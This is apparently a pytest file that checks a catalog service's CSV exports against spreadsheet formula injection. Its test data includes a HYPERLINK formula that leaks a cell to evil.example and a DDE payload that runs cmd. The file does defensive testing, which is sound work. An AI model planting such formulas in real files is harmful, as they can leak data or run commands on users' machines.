"""Exported manifests are safe to open in a spreadsheet: a cell that would start a formula (=, +, -, @, tab, CR) is
written with a leading single quote, which imports drop again, so export -> import gives back the very same names.

Both writers are covered: the HTTP archive export (an admin's all-brands export) and the CLI's `catalog export`."""

from __future__ import annotations

import csv
import io
import sqlite3
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from cli.main import cli
from reference_catalog import read_manifest, write_manifest
from reference_catalog.text import csv_cell, from_csv_cell
from tests import imaging
from tests.archives import manifest, zip_bytes
from tests.helpers import TINY_MODEL_FLAGS, add_reference, tiny_settings
from tests.service.api.imports_helpers import catalog_rows, import_archive

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+SUM(1+1)", "@SUM(1)", "=cmd|' /C calc'!A0", "-2+3"]
ORDINARY = ["plain", "-10% sale", "'quoted'", "'=already quoted", "''+two quotes", "a=b", "", "'", "=", "\t=tab"]


@pytest.mark.parametrize("value", HOSTILE + ORDINARY)
def test_a_cell_reads_back_as_the_value_written(value: str) -> None:
    cell = csv_cell(value)
    assert from_csv_cell(cell) == value
    assert not cell.startswith(FORMULA_STARTS)
    if not value.lstrip("'").startswith(FORMULA_STARTS):
        assert cell == value  # ordinary values are written as they are


def test_write_manifest_neutralises_every_column_and_read_manifest_restores_them(tmp_path: Path) -> None:
    rows = [
        ("images/a.jpg", "=cmd|' /C calc'!A0", "+SUM(1+1)", "authentic", "@SUM(1)", "-shoot"),
        ("images/b.jpg", "Acme", "-10% sale", "counterfeit", "'=quoted", None),
    ]
    for path, *_ in rows:
        (tmp_path / path).parent.mkdir(exist_ok=True)
        (tmp_path / path).write_bytes(b"x")
    target = tmp_path / "manifest.csv"
    write_manifest(target, rows)
    with open(target, newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'=cmd|' /C calc'!A0" in cells and "''=quoted" in cells
    read = read_manifest(target)
    assert read.errors == []
    got = [(r.brand, r.product, r.label, r.extra["source"], r.extra["group"] or None) for r in read.rows]
    assert got == [row[1:] for row in rows]


def _groups(data_dir: Path) -> list[tuple[str, str, str]]:
    with sqlite3.connect(data_dir / "catalog.sqlite3") as db:
        return sorted(
            db.execute(
                "select p.name, i.sha256, g.name from image_groups g join reference_images i on i.id = g.image_id "
                "join products p on p.id = i.product_id"
            ).fetchall()
        )


def _seed(client: TestClient) -> None:
    """A catalog whose names, sources and shoots start like formulas (and some ordinary ones that look alike)."""
    rows = [
        ("a.jpg", "=cmd|' /C calc'!A0", HOSTILE[0], "authentic", "+SUM(1+1)", "@SUM(1)"),
        ("b.jpg", "Acme", "-10% sale", "counterfeit", "-", "=2*3"),
        ("c.jpg", "Acme", "plain", "authentic", "studio", "shoot 1"),
    ]
    files = [(name, imaging.jpeg(40 + i)) for i, (name, *_) in enumerate(rows)]
    header = ("path", "brand", "product", "label", "source", "group")
    job = import_archive(client, zip_bytes([("manifest.csv", manifest(rows, header)), *files]))
    assert (job["state"], job["images_added"], job["errors"]) == ("succeeded", 3, []), job
    add_reference(client, imaging.jpeg(50), "@Globex", "'=quoted", "authentic", source="''+two quotes")


def test_the_http_export_of_all_brands_neutralises_formulas_and_imports_back_unchanged(
    client: TestClient, make_client: Callable[..., TestClient], data_dir: Path, tmp_path: Path
) -> None:
    _seed(client)
    response = client.get("/v1/catalog/export")  # an admin: every brand
    assert response.status_code == 200, response.text
    with zipfile.ZipFile(io.BytesIO(response.content)) as zf:
        text = zf.read("manifest.csv").decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], text
    assert {"'=cmd|' /C calc'!A0", "'+SUM(1+1)", "'@SUM(1)", "'-10% sale", "'=2*3", "'@Globex", "''=quoted"} <= set(cells)
    assert "'''+two quotes" in cells  # a value quoted already gets one quote more, which the import drops again
    assert {"plain", "studio", "shoot 1", "Acme"} <= set(cells)  # ordinary cells as they are

    fresh_dir = tmp_path / "fresh"
    job = import_archive(make_client(tiny_settings(fresh_dir)), response.content)
    assert (job["state"], job["images_added"], job["errors"]) == ("succeeded", 4, []), job
    assert catalog_rows(fresh_dir) == catalog_rows(data_dir)  # brand, product, label, bytes, source
    assert _groups(fresh_dir) == _groups(data_dir)
    assert ("=cmd|' /C calc'!A0", HOSTILE[0]) in {row[:2] for row in catalog_rows(fresh_dir)}
    assert ("@Globex", "'=quoted", "''+two quotes") in {(row[0], row[1], row[4]) for row in catalog_rows(fresh_dir)}


def test_the_cli_export_neutralises_formulas_and_imports_back_unchanged(
    client: TestClient, data_dir: Path, tmp_path: Path
) -> None:
    _seed(client)
    out = tmp_path / "export"

    def run(*args: str, target: Path) -> None:
        result = CliRunner().invoke(cli, [*args, *TINY_MODEL_FLAGS, "--data-dir", str(target)], catch_exceptions=False)
        assert result.exit_code == 0, result.output

    run("catalog", "export", str(out), target=data_dir)
    with open(out / "manifest.csv", newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert {"'=cmd|' /C calc'!A0", "'-10% sale", "'@SUM(1)"} <= set(cells)

    fresh_dir = tmp_path / "fresh"
    run("catalog", "import", str(out / "manifest.csv"), target=fresh_dir)
    assert catalog_rows(fresh_dir) == catalog_rows(data_dir)
    assert _groups(fresh_dir) == _groups(data_dir)
